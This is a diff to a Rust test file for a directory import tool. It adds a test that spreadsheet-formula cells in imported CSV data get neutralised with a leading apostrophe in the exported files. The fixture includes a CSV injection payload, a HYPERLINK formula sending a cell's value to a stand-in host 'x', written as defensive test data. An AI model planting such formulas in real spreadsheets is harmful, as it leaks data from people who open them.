@@ -358,7 +358,8 @@ async fn preflight_holds_back_what_graph_would_refuse_and_sends_the_rest() {
 
 /// The hand-off file is a new file or nothing: an existing file, a symlink and a missing
 /// folder are refused before anything is sent (no write reaches the tenant, the existing file
-/// is untouched); a new one is 0600 and holds the header and one row per created account.
+/// is untouched); a new one is 0600 and holds the header and one row per created account,
+/// every cell spreadsheet-safe (as in `users --csv`).
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_handoff_file_that_is_not_new_is_refused_before_anything_is_sent() {
     let env = common::start(SimOptions {
@@ -370,7 +371,12 @@ async fn a_handoff_file_that_is_not_new_is_refused_before_anything_is_sent() {
     let csv = env.data.path().join("people.csv");
     std::fs::write(
         &csv,
-        format!("email,displayName\nann@{dom},Ann Lee\nben@{dom},Ben Ode\n"),
+        // Cells a spreadsheet would run as formulas: a leading `-` in the address, `=` in
+        // the name.
+        format!(
+            "email,displayName\n-ann@{dom},\"=HYPERLINK(\"\"http://x/?\"\"&A1)\"\n\
+             ben@{dom},Ben Ode\n"
+        ),
     )
     .unwrap();
     let out = run(&env, &["directory", "import", csv.to_str().unwrap()]).await;
@@ -425,6 +431,29 @@ async fn a_handoff_file_that_is_not_new_is_refused_before_anything_is_sent() {
         Some("email,userPrincipalName,temporaryPassword")
     );
     assert_eq!(lines.count(), 2, "{h}");
+    // Spreadsheet-safe: the address is quoted, the generated password left as it is.
+    let mut r = csv::Reader::from_path(&new).unwrap();
+    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
+    let ann = rows
+        .iter()
+        .find(|r| r[0].contains("-ann@"))
+        .expect("ann's row");
+    assert_eq!(&ann[0], format!("'-ann@{dom}"));
+    assert!(ann[1].starts_with("'-ann@"), "{ann:?}");
+    assert!(
+        rows.iter().all(|r| !r[2].starts_with('\'')),
+        "passwords unchanged"
+    );
+    let out = run(&env, &["users", "--csv"]).await;
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let mut r = csv::Reader::from_reader(out.stdout.as_slice());
+    let ann = r
+        .records()
+        .map(Result::unwrap)
+        .find(|r| r[1].contains("-ann@"))
+        .expect("ann in users --csv");
+    assert!(ann[1].starts_with("'-ann@"), "{ann:?}");
+    assert_eq!(&ann[3], "'=HYPERLINK(\"http://x/?\"&A1)");
 
     // A run that creates nothing leaves no hand-off file behind.
     let none = env.data.path().join("none.csv");
